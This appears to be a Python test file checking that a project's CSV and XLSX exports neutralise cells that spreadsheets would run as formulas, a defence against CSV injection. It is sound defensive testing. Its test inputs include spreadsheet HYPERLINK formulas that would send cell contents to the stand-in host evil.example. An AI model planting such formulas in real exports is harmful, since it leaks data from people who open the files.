"""Exports never write a cell that a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from linli.core.tabular import FORMULA_TRIGGERS, neutralise_cell, read_table, restore_cell, write_csv, write_xlsx

HOSTILE = [f'{c}HYPERLINK("http://evil.example/?"&A1,"click")' for c in ("=", "+", "-", "@", "\t", "\r")]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_cells(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_all_six_triggers_are_listed():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_starting_with_a_trigger_is_quoted(text):
    rows = _csv_cells(write_csv(["name"], [[text]]))
    assert rows[1] == ["'" + text]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_cell_starting_with_a_trigger_is_quoted_text_not_a_formula(text):
    data = write_xlsx(["name"], [[text]])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cell = sheet["A2"]
    assert cell.data_type == "s"
    # XML reads a stored carriage return back as a line feed; the quote in front is what matters.
    assert cell.value == "'" + text.replace("\r", "\n")
    # The stored sheet XML holds no formula element at all.
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    row = [-5, 3.25, 0, 110101001000, "东华门街道", "a=b", "", None]
    assert _csv_cells(write_csv(list("abcdefgh"), [row]))[1] == [
        "-5",
        "3.25",
        "0",
        "110101001000",
        "东华门街道",
        "a=b",
        "",
        "",
    ]
    cells = _xlsx_cells(write_xlsx(list("abcdefgh"), [row]))[1]
    assert cells[:5] == [-5, 3.25, 0, 110101001000, "东华门街道"]
    assert isinstance(cells[0], int) and isinstance(cells[1], float)


@pytest.mark.parametrize("writer,suffix", [(write_csv, "csv"), (write_xlsx, "xlsx")])
def test_re_import_of_an_export_gives_back_the_stored_text(writer, suffix):
    stored = ["=1+1", "'=1+1", "''@x", "-3 号楼", "'plain", "+86 10"]
    data = writer(["name"], [[s] for s in stored])
    table = read_table(io.BytesIO(data), f"x.{suffix}")
    assert [values["name"] for _, values in table.rows] == stored


@given(st.text())
def test_neutralising_is_undone_exactly_and_never_leaves_a_trigger_first(text):
    written = neutralise_cell(text)
    assert not written.startswith(FORMULA_TRIGGERS)
    assert restore_cell(written) == text


@pytest.mark.django_db
def test_place_and_matter_exports_quote_a_formula_name(world, matter):
    from linli.orgs.actions import export_matters
    from linli.orgs.models import Matter
    from linli.places.actions import export_places
    from linli.places.models import Place

    Place.objects.filter(code="110101001001001").update(name='=HYPERLINK("http://evil.example","x")')
    Matter.objects.filter(pk=matter.pk).update(name="@SUM(1)")
    places = _csv_cells(export_places(world.admin, None, "csv"))
    assert ['\'=HYPERLINK("http://evil.example","x")'] == [r[1] for r in places if r[0] == "110101001001001"]
    matters = _xlsx_cells(export_matters(world.admin, "xlsx"))
    assert matters[1][1] == "'@SUM(1)"
